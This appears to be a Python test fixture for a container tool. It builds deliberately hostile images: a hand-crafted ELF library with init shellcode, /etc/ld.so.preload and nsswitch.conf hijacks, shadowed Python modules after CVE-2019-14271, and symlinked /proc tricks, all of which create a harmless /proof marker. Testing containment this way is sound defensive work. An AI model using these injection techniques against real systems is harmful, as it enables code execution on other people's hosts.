"""Images that lie in wait.

evil         for somebody to load code from it: libraries, Python modules, name services (CVE-2019-14271). Whatever is
             loaded makes the file /proof, seen from where it is loaded. The image's own programs are static.
with_links   for somebody to mount where a link leads.
linked_proc  for somebody to mount /proc, or to believe it.
"""

import io
import os
import struct
import sys
import tarfile

import sampan
from support import attackimage, rootfs

PROOF = "proof"
LIBRARY = "libnss_evil.so.2"
# What interpreters and C libraries look for when they need a codec, a name service, or to unwind a thread.
LIBRARIES = (LIBRARY, *"libnss_files.so.2 libnss_dns.so.2 libgcc_s.so.1 libz.so.1 liblzma.so.5 libbz2.so.1.0".split())
CODECS = "idna punycode utf_16 latin_1 utf_8_sig cp1252 unicode_escape".split()
FOLDERS = "lib lib64 usr/lib usr/lib64 usr/local/lib".split()
MODULE = f"open('/{PROOF}', 'w').close()\n".encode()
_CODE = {
    # openat(AT_FDCWD, path, O_CREAT | O_WRONLY, 0644)
    "x86_64": bytes.fromhex("bf9cffffff 488d3513000000 ba41000000 41baa4010000 b801010000 0f05 c3"),
    "aarch64": struct.pack("<7I", 0x92800C60, 0x100000C1, 0xD2800822, 0xD2803483, 0xD2800708, 0xD4000001, 0xD65F03C0),
}


def library(machine: str = os.uname().machine) -> bytes:
    """A shared library whose initialisation makes /proof: one segment, written by hand (elf(5))."""
    head, dynamic_at = 64 + 2 * 56, 176
    dynamic_bytes = 7 * 16
    names_at = dynamic_at + dynamic_bytes
    symbols_at, hash_at, code_at = names_at + 8, names_at + 32, names_at + 48
    code = _CODE[machine] + f"/{PROOF}\0".encode()
    size = code_at + len(code)
    number = {"x86_64": 62, "aarch64": 183}[machine]
    ident = b"\x7fELF\x02\x01\x01" + bytes(9)
    elf = ident + struct.pack("<HHIQQQIHHHHHH", 3, number, 1, 0, 64, 0, 0, 64, 56, 2, 64, 0, 0)
    load = struct.pack("<IIQQQQQQ", 1, 7, 0, 0, 0, size, size, 0x1000)
    dynamic = struct.pack("<IIQQQQQQ", 2, 6, dynamic_at, dynamic_at, dynamic_at, dynamic_bytes, dynamic_bytes, 8)
    # DT_HASH, DT_STRTAB, DT_SYMTAB, DT_STRSZ, DT_SYMENT, DT_INIT, DT_NULL
    entries = ((4, hash_at), (5, names_at), (6, symbols_at), (10, 8), (11, 24), (12, code_at), (0, 0))
    table = b"".join(struct.pack("<QQ", *entry) for entry in entries)
    assert len(elf + load + dynamic) == head == dynamic_at
    return elf + load + dynamic + table + bytes(8) + bytes(24) + struct.pack("<4I", 1, 1, 0, 0) + code


def _modules() -> list[str]:
    """Paths at which this host's interpreters would look for a module of theirs or ours."""
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    ours = os.path.dirname(os.path.abspath(sampan.__file__))
    found = []
    for prefix in {sys.base_prefix, "/usr", "/usr/local"}:
        for name in (*sys.stdlib_module_names, *(f"encodings/{name}" for name in CODECS)):
            found.append(f"{prefix}/lib/{version}/{name}.py")
    for parent, folders, names in os.walk(ours):
        folders[:] = [name for name in folders if name != "__pycache__"]
        found += [f"{parent}/{name}" for name in names if name.endswith(".py") and name != "__init__.py"]
    return found


def evil() -> bytes:
    """The image, as a tar: first what waits to be loaded, then what might have it loaded."""
    out = io.BytesIO(rootfs.busybox())
    triplet = f"{os.uname().machine}-linux-gnu"
    with tarfile.open(fileobj=out, mode="a", format=tarfile.PAX_FORMAT) as tar:
        for folder in FOLDERS:
            for place in (folder, f"{folder}/{triplet}"):
                for name in LIBRARIES:
                    rootfs.add(tar, f"{place}/{name}", library())
        rootfs.add(tar, "etc/ld.so.preload", f"/lib/{LIBRARY}\n".encode(), mode=0o644)
        services = b"".join(b"%s: evil files\n" % name for name in (b"passwd", b"group", b"shadow", b"hosts"))
        rootfs.add(tar, "etc/nsswitch.conf", services, mode=0o644)
        for path in _modules():
            rootfs.add(tar, path[1:], MODULE, mode=0o644)
        for name in ("naïve", "日本語", "\udcff\udcfe", "x" * 200):
            rootfs.add(tar, f"odd/{name}", b"x", uname="somebody", gname="somebody", pax_headers={"comment": "é"})
    return out.getvalue()


def linked_proc(files: dict[str, str] | None = None) -> bytes:
    """The attackers' image, with a link to a volume instead of /proc, and perhaps something in its place."""
    out = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(attackimage.attackers())) as old, tarfile.open(fileobj=out, mode="w") as new:
        for member in old:
            if member.name.rstrip("/") == "proc":
                rootfs.add(new, "proc", type=tarfile.SYMTYPE, linkname="/vol/proc")
            else:
                new.addfile(member, old.extractfile(member) if member.isfile() else None)
        for name, text in (files or {}).items():
            rootfs.add(new, f"vol/proc/{name}", text.encode(), mode=0o644)
    return out.getvalue()


def with_links(links: dict[str, str]) -> bytes:
    """The busybox image with these links."""
    out = io.BytesIO(rootfs.busybox())
    with tarfile.open(fileobj=out, mode="a") as tar:
        for name, target in links.items():
            rootfs.add(tar, name, type=tarfile.SYMTYPE, linkname=target)
    return out.getvalue()
